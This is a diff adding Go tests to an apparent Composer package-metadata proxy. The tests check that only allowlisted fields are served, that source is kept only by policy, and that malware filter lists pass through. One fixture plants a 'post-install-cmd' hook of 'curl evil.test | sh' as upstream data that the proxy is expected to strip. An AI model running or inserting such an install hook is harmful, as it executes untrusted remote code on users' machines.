@@ -4,6 +4,7 @@ import (
 	"fmt"
 	"net/url"
 	"reflect"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -455,5 +456,76 @@ func TestServedStateNotPerHost(t *testing.T) {
 	fronttest.GetWithHosts(t, r.h, "/composer/packages.json", 10)
 	if n := keys.Len(); n != 2 {
 		t.Errorf("5,010 requests with distinct Host headers stored %d served-state records, want 2 (one per document)", n)
+	}
+}
+
+// TestP2Allowlist: a served version holds identity, the manifest's fields,
+// sigil's dist and informational fields; nothing else the upstream sends,
+// and no source unless policy keeps it.
+func TestP2Allowlist(t *testing.T) {
+	r := newRig(t)
+	v := testVersion("1.0.0", "c10")
+	for k, val := range map[string]any{
+		"notification-url":    "https://stats.evil.test/",
+		"installation-source": "source",
+		"scripts":             map[string]any{"post-install-cmd": "curl evil.test | sh"},
+		"require-dev":         map[string]any{"evil/dev": "*"},
+		"x-future-field":      true,
+		"bin":                 []any{"bin/foo"},
+		"type":                "library",
+		"extra":               map[string]any{"branch-alias": map[string]any{"dev-main": "1.x-dev"}},
+		"funding":             []any{map[string]any{"type": "github", "url": "https://funding.test/"}},
+		"abandoned":           "acme/bar",
+	} {
+		v[k] = val
+	}
+	r.up.Set(upstreamBase+"/p2/acme/foo.json", minifiedDoc("acme/foo", []map[string]any{v}))
+	r.checker.set("1.0.0", policy.Allow, false)
+	_, body := r.Get("/composer/p2/acme/foo.json")
+	vs, _ := servedVersions(t, body, "acme/foo")
+	if len(vs) != 1 {
+		t.Fatalf("served %v", vs)
+	}
+	var got []string
+	for k := range vs[0] {
+		got = append(got, k)
+	}
+	slices.Sort(got)
+	want := []string{"abandoned", "autoload", "bin", "description", "dist", "extra", "funding", "license", "name", "require", "type", "version"}
+	if !slices.Equal(got, want) {
+		t.Errorf("served members %v, want %v", got, want)
+	}
+}
+
+// TestP2SourceOnlyWhereKept: the same version is served with its source
+// (without mirrors) only when the verdict keeps it.
+func TestP2SourceOnlyWhereKept(t *testing.T) {
+	for _, keep := range []bool{false, true} {
+		r := newRig(t)
+		r.up.Set(upstreamBase+"/p2/acme/foo.json", minifiedDoc("acme/foo", []map[string]any{testVersion("1.0.0", "c10")}))
+		r.checker.set("1.0.0", policy.Allow, keep)
+		_, body := r.Get("/composer/p2/acme/foo.json")
+		vs, _ := servedVersions(t, body, "acme/foo")
+		src, ok := vs[0]["source"].(map[string]any)
+		if ok != keep {
+			t.Errorf("keep=%v: source %v", keep, vs[0]["source"])
+		}
+		if ok && (src["mirrors"] != nil || src["reference"] != "c10") {
+			t.Errorf("kept source %v", src)
+		}
+	}
+}
+
+// TestP2PassesFilter: Composer's filter-list entries reach the client.
+func TestP2PassesFilter(t *testing.T) {
+	r := newRig(t)
+	r.up.Set(upstreamBase+"/p2/acme/foo.json", `{"packages":{"acme/foo":[{"name":"acme/foo","version":"1.0.0"}]},
+		"filter":{"malware":[{"constraint":"1.0.0","reason":"known bad","url":"https://filter.test/1"}]}}`)
+	r.checker.set("1.0.0", policy.Allow, false)
+	_, body := r.Get("/composer/p2/acme/foo.json")
+	top := fronttest.DecodeObject(t, body)
+	f, _ := top["filter"].(map[string]any)
+	if list, _ := f["malware"].([]any); len(list) != 1 {
+		t.Errorf("filter %v", top["filter"])
 	}
 }
